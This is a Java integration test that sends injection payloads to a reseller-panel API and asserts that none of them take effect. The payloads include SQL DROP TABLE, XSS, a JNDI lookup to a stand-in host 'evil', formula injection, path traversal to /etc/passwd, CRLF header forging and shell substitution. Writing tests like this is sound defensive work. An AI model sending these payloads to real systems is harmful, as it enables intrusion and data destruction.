package io.panelhouse.panel.api;

import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.core.read.ListAppender;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.panelhouse.panel.api.TestApi.Said;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.slf4j.LoggerFactory;

/** Text that would be code elsewhere is text here: in SQL, in answers, in headers and in the log. */
class ApiInjectionIT {

    private static final TestApi API = new TestApi();
    private static final ListAppender<ILoggingEvent> LOG = new ListAppender<>();
    private static final List<String> CORES = List.of(
            "' OR '1'='1",
            "'; DROP TABLE panel.account; --",
            "\" OR 1=1 --",
            "') UNION SELECT 1,2,3 --",
            "%' ESCAPE '!",
            "_%\\",
            "$$; SELECT pg_sleep(9); $$",
            "<script>alert(1)</script>",
            "\"><img src=x onerror=alert(1)>",
            "${jndi:ldap://evil/x}",
            "{{7*7}}",
            "=cmd|'/c calc'!A1",
            "@SUM(1+1)",
            "+1+1",
            "-2+3",
            "../../etc/passwd",
            "..%2f..%2fetc",
            "file:///etc/passwd",
            "null",
            "undefined",
            "true",
            "0x7fffffff",
            "1e999",
            "\\u0000",
            "\\r\\nSet-Cookie: a=b",
            "a\r\nSet-Cookie: a=b",
            "a\nERROR forged line",
            "\u001b[31mred",
            "\u202egnp.exe",
            "\u0000",
            "{\"$gt\":\"\"}",
            "<!--#exec cmd=\"ls\"-->",
            "<?xml version=\"1.0\"?>",
            "javascript:alert(1)",
            "`id`",
            "$(id)",
            ";id|id&id",
            "%0d%0aX: y",
            ":scope",
            ":id::text",
            "?",
            "??",
            "\\",
            "/*",
            "*/",
            "--",
            "#",
            "'",
            "\"",
            "panel.enter('house')");

    @BeforeAll
    static void listen() {
        API.business.fund(API.business.north, 500);
        LOG.start();
        ((Logger) LoggerFactory.getLogger(org.slf4j.Logger.ROOT_LOGGER_NAME)).addAppender(LOG);
    }

    @AfterAll
    static void close() {
        ((Logger) LoggerFactory.getLogger(org.slf4j.Logger.ROOT_LOGGER_NAME)).detachAppender(LOG);
        API.close();
    }

    @Test
    @Tag("X5")
    void noneOfFiveHundredPayloadsIsLive() {
        List<Said> answers = new ArrayList<>();
        for (String payload : CORES) {
            answers.addAll(inBodies(payload));
            answers.addAll(inAddresses(payload));
        }

        assertThat(answers).hasSizeGreaterThan(500);
        assertThat(answers).allSatisfy(said -> {
            assertThat(said.status()).isLessThan(500);
            assertThat(said.header("Content-Type")).startsWith("application/").contains("json");
            assertThat(said.header("X-Content-Type-Options")).isEqualTo("nosniff");
            assertThat(said.header("Set-Cookie")).isEmpty();
            assertThat(said.json().isObject()).isTrue();
        });
        assertThat(LOG.list)
                .noneSatisfy(event -> assertThat(event.getFormattedMessage()).contains("forged", "evil"));
        assertThat(API.business.count("SELECT count(*) FROM panel.reseller WHERE parent_id IS NULL"))
                .isEqualTo(1);
        assertThat(API.business.count(
                        "SELECT count(*) FROM panel.account a JOIN panel.reseller r ON r.id = a.reseller_id"
                                + " WHERE r.name = 'south'"))
                .isZero();
    }

    @Test
    @Tag("X5")
    void whatIsTakenComesBackAsItWas() {
        for (String payload :
                List.of("=cmd|'/c calc'!A1 x", "<script>alert(2)</script>", "'; DROP TABLE panel.term; --")) {
            Said created = API.post(API.northToken, "/v1/accounts", account(payload));

            assertThat(created.status()).isEqualTo(201);
            assertThat(API.get(API.northToken, "/v1/accounts/" + created.json().get("account"))
                            .json()
                            .get("name")
                            .asText())
                    .isEqualTo(payload);
        }
    }

    private static List<Said> inBodies(String payload) {
        String token = API.northToken;
        return List.of(
                API.post(token, "/v1/accounts", account(payload)),
                API.post(token, "/v1/accounts", text("package", payload)),
                API.post(token, "/v1/renewals", text("items", payload)),
                API.post(token, "/v1/transfers", text("credits", payload)),
                API.post(token, "/v1/tokens", text("operator", payload)),
                API.post(token, "/v1/resellers", text("timeZone", payload)),
                API.post(token, "/v1/accounts/1/moves", text("to", payload)),
                API.post(token, "/v1/accounts", payload));
    }

    private static List<Said> inAddresses(String payload) {
        String token = API.northToken;
        String encoded = URLEncoder.encode(payload, StandardCharsets.UTF_8);
        return List.of(
                API.get(token, "/v1/accounts?text=" + encoded),
                API.get(token, "/v1/accounts?under=" + encoded),
                API.get(token, "/v1/accounts?cursor=" + encoded),
                API.get(token, "/v1/attempts?outcome=" + encoded),
                API.get(token, "/v1/accounts/" + encoded),
                API.get(token, "/v1/accounts?" + encoded + "=1"));
    }

    private static String account(String name) {
        return TestApi.JSON
                .createObjectNode()
                .put("reseller", API.business.north.value())
                .put("name", name)
                .put("package", "TRIAL")
                .toString();
    }

    private static String text(String field, String value) {
        ObjectNode body = TestApi.JSON.createObjectNode();
        body.put("reseller", API.business.north.value()).put(field, value);
        return body.toString();
    }
}
